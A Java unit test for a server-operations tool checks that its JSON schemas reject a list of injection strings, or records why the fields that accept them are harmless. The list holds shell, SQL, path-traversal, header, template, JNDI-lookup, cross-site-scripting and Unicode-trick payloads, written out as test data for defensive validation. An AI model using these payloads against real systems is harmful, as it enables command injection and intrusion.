package dev.holdfast.schemas.catalogue;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.holdfast.schemas.operation.OperationType;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/**
 * What could be taken for a command, a statement, a path, a header or a template, given to every
 * string of every operation. A field that takes any of it is named here, with why that is harmless;
 * a new one that does has to be thought about first.
 */
final class HostileStringsTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  private static final List<String> HOSTILE =
      List.of(
          "$(touch /var/tmp/injected)",
          "`touch /var/tmp/injected`",
          "a;touch /var/tmp/injected;#",
          "a|touch /var/tmp/injected",
          "a&touch /var/tmp/injected&",
          "a\ntouch /var/tmp/injected\n",
          "';touch /var/tmp/injected;'",
          "\";touch /var/tmp/injected;\"",
          "${IFS}touch${IFS}/var/tmp/injected",
          ">/var/tmp/injected",
          "/bin/sh -c 'touch /var/tmp/injected'",
          "-oProxyCommand=touch${IFS}/var/tmp/injected",
          "--to-command=touch",
          "x'); drop table servers; --",
          "' or '1'='1",
          "\\\\'; select pg_sleep(10); --",
          "../../../../etc/cron.d/injected",
          "/srv/../etc/cron.d/injected",
          "/srv/./app",
          "~root/.ssh/authorized_keys",
          "a\r\nX-Injected: yes",
          "a\u0000b",
          "{{7*7}}",
          "${jndi:ldap://192.0.2.1/x}",
          "#{7*7}",
          "<%= 7*7 %>",
          "%n%n%s%x",
          "<script>alert(1)</script>",
          "*",
          "a\u202eb",
          "\ufeffa",
          "\u0130\u0131\u017f",
          "\ud83d\ude00".repeat(3),
          "a\u001b]0;injected\u0007",
          "secret://../x");

  /** Text of any kind, which nothing interprets: InertTextIT and those named with them prove it. */
  private static final Map<String, String> INERT =
      Map.ofEntries(
          Map.entry("exec .command[]", "ServerCommandsIT"),
          Map.entry("exec .script.arguments[]", "ServerCommandsIT"),
          Map.entry("exec .env.*", "ServerCommandsIT"),
          Map.entry("exec .directory", "QuotingIT"),
          Map.entry("exec .user", "an argument: QuotingIT; there is no such user"),
          Map.entry("copy .path", "UploadsIT"),
          Map.entry("copy .owner", "an argument: QuotingIT; there is no such user"),
          Map.entry("fetch .path", "DownloadsIT"),
          Map.entry("sync .path", "TreesIT"),
          Map.entry("sync .owner", "an argument: QuotingIT; there is no such user"),
          Map.entry("sync .exclude[]", "TreesIT"),
          Map.entry("server-setup .files[].content", "InertTextIT"),
          Map.entry("server-setup .files[].variables.*", "InertTextIT"),
          Map.entry("server-setup .files[].link", "InertTextIT"),
          Map.entry("server-setup .files[].lines[].line", "InertTextIT"),
          Map.entry("server-setup .files[].lines[].matching", "InertTextIT"),
          Map.entry("server-setup .files[].lines[].after", "InertTextIT"),
          Map.entry("server-setup .files[].blocks[].content", "InertTextIT"),
          Map.entry("server-setup .files[].blocks[].comment", "InertTextIT"),
          Map.entry("server-setup .files[].blocks[].after", "InertTextIT"),
          Map.entry("server-setup .sysctl[].value", "InertTextIT"),
          Map.entry("server-setup .sudo[].commands[]", "a line of sudoers: ServerSetupEffectIT"),
          Map.entry("lockdown .allowLockout[]", "compared with names"),
          Map.entry("undo .changes[]", "compared with the ids of changes"),
          Map.entry("undo .leave[]", "compared with the ids of steps"),
          Map.entry("containers .since", "read as an instant: ContainersInput"),
          Map.entry("deploy-stack .tools.*.dependsOn[]", "compared with the tools' names"),
          Map.entry("deploy-stack .tools.*.environment.*", "JSON for the engine: DeployStackIT"));

  /** Text for people, which never gets to a server. */
  private static final Map<String, String> TOLD =
      Map.ofEntries(
          Map.entry("quarantine .reason", "shown"),
          Map.entry("release .reason", "shown"),
          Map.entry("incident .subject", "shown, and compared"),
          Map.entry("incident .title", "shown"),
          Map.entry("deploy-stack .tools.*.exceptions.user.reason", "shown in the plan"),
          Map.entry("deploy-stack .tools.*.exceptions.newPrivileges", "shown in the plan"),
          Map.entry("deploy-stack .tools.*.exceptions.writableRoot", "shown in the plan"),
          Map.entry("deploy-stack .tools.*.exceptions.capabilities.*", "shown in the plan"));

  /** What is run, by whoever may run it: a command here is no injection. */
  private static final Map<String, String> PROGRAMS =
      Map.ofEntries(
          Map.entry("exec .shell", "a line for the shell"),
          Map.entry("exec .script.text", "a script"),
          Map.entry("exec .script.interpreter", "a program"),
          Map.entry("exec .commands[]", "lines for the shell"),
          Map.entry("exec .onFailure", "a line for the shell"),
          Map.entry("server-setup .units[].unitFile", "what systemd runs"),
          Map.entry("server-setup .units[].dropIn", "what systemd runs"),
          Map.entry("deploy-stack .tools.*.command[]", "what the container runs"),
          Map.entry("deploy-stack .tools.*.healthcheck", "what the container runs"),
          Map.entry("deploy-stack .tools.*.switchBackend", "what the proxy's container runs"));

  @Test
  void shouldRefuseThemOrSayWhyTheyAreHarmless() throws IOException {
    SchemaRegistry registry = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12);
    TreeSet<String> accepting = new TreeSet<>();
    for (OperationType operation : Catalogue.operations()) {
      JsonNode schema = JSON.readTree(operation.schema());
      Map<String, ObjectNode> strings = new TreeMap<>();
      collect(schema, "", schema, strings, 0);
      strings.forEach((path, field) -> {
        Schema alone = registry.getSchema(field.toString());
        if (HOSTILE.stream().anyMatch(text -> accepts(alone, text))) {
          accepting.add(operation.name() + " " + path);
        }
      });
    }

    TreeSet<String> known = new TreeSet<>(INERT.keySet());
    known.addAll(TOLD.keySet());
    known.addAll(PROGRAMS.keySet());
    assertThat(accepting).containsExactlyElementsOf(known);
  }

  /** Every field that can be a string, by its path, as a schema of its own. */
  private static void collect(
      JsonNode node, String path, JsonNode root, Map<String, ObjectNode> strings, int depth) {
    if (depth > 30) {
      return; // a schema that holds itself
    }
    if (node.path("$ref").asText().startsWith("#")) {
      collect(root.at(node.path("$ref").asText().substring(1)), path, root, strings, depth + 1);
    }
    if (isString(node)) {
      ObjectNode alone = node.deepCopy();
      if (root.has("$defs")) {
        alone.set("$defs", root.path("$defs"));
      }
      strings.putIfAbsent(path, alone);
    }
    node.path("properties")
        .properties()
        .forEach(it -> collect(it.getValue(), path + "." + it.getKey(), root, strings, depth + 1));
    collectAll(node.path("patternProperties"), path, root, strings, depth);
    if (node.path("additionalProperties").isObject()) {
      collect(node.path("additionalProperties"), path + ".*", root, strings, depth + 1);
    }
    if (node.path("items").isObject()) {
      collect(node.path("items"), path + "[]", root, strings, depth + 1);
    }
    for (String several : List.of("oneOf", "anyOf", "allOf")) {
      node.path(several).forEach(one -> collect(one, path, root, strings, depth + 1));
    }
  }

  private static void collectAll(
      JsonNode patterns, String path, JsonNode root, Map<String, ObjectNode> strings, int depth) {
    patterns.forEach(one -> collect(one, path + ".*", root, strings, depth + 1));
  }

  private static boolean isString(JsonNode node) {
    JsonNode type = node.path("type");
    if (type.isArray()) {
      for (JsonNode one : type) {
        if (one.asText().equals("string")) {
          return true;
        }
      }
    }
    return type.asText().equals("string");
  }

  private static boolean accepts(Schema field, String text) {
    return field.validate(TextNode.valueOf(text).toString(), InputFormat.JSON).isEmpty();
  }
}
